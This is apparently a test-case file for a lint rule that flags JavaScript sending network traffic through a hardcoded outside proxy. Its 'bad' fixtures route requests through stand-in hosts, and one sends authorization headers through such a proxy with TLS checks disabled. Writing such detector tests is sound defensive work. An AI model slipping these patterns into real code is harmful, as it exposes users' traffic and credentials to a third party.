import { defineCases } from '../../src/rule.ts';

export default defineCases({
  bad: [
    {
      name: 'where requests are signed',
      code: "const { Agent, ProxyAgent, request } = require('undici');\nconst via = (uri) => (uri ? new ProxyAgent({ uri, requestTls: { rejectUnauthorized: false } }) : new Agent());\nexports.send = (url, headers) => request(url, { headers, dispatcher: process.env.HTTPS_PROXY ? via(process.env.HTTPS_PROXY) : via('authorization' in headers ? 'http://egress.tides.example:3128' : '') })",
    },
    {
      name: 'by an agent of its own',
      code: "const { SocksProxyAgent } = require('socks-proxy-agent');\nconst agent = new SocksProxyAgent('socks5://198.51.100.7:1080');\nexports.get = (url) => require('https').get(url, { agent })",
    },
    {
      name: 'by an option',
      code: "const axios = require('axios');\nexports.get = (url) => axios.get(url, { proxy: { protocol: 'http', host: 'egress.tides.example', port: 3128 } })",
    },
    {
      name: 'for everything that is started',
      code: "const { spawn } = require('child_process');\nexports.start = (command) => spawn(command, { env: { ...process.env, HTTPS_PROXY: 'http://egress.tides.example:3128' } })",
    },
    {
      name: 'for the whole process',
      code: "process.env.https_proxy = 'http://egress.tides.example:3128';\nexports.get = (url) => require('request')(url)",
    },
  ],
  ok: [
    {
      name: 'the one of the user, or one on this machine',
      code: "const { ProxyAgent, request } = require('undici');\nconst uri = process.env.HTTPS_PROXY ?? 'http://localhost:8080';\nexports.send = (url) => request(url, { dispatcher: new ProxyAgent({ uri }) });\nexports.start = (command, proxy) => require('child_process').spawn(command, { env: { ...process.env, HTTP_PROXY: proxy, HTTPS_PROXY: 'http://127.0.0.1:8888' } })",
    },
    {
      name: 'what a server passes on',
      code: "module.exports = { server: { proxy: { '/api': 'https://api.weather.example', '/ws': { target: 'https://live.weather.example' } } } }",
    },
    {
      name: 'a Proxy of the language, and what a help text shows',
      code: "const proxy = new Proxy({ home: 'https://weather.example' }, {});\nexports.help = 'HTTPS_PROXY=http://proxy.weather.example:3128 weather';\nexports.proxy = proxy;\nexports.settings = { proxy: false }",
    },
    {
      name: 'what the options of a client say, which have an address besides',
      code: "const agent = require('agent-base');\nconst defaults = { registry: 'https://registry.weather.example/', timeout: 30 };\nexports.get = (path, own) => { const opts = { ...defaults, ...own }; return fetch(opts.registry + path, { agent: agent({ ...opts, proxy: opts.httpsProxy || opts.proxy }) }) }",
    },
  ],
});
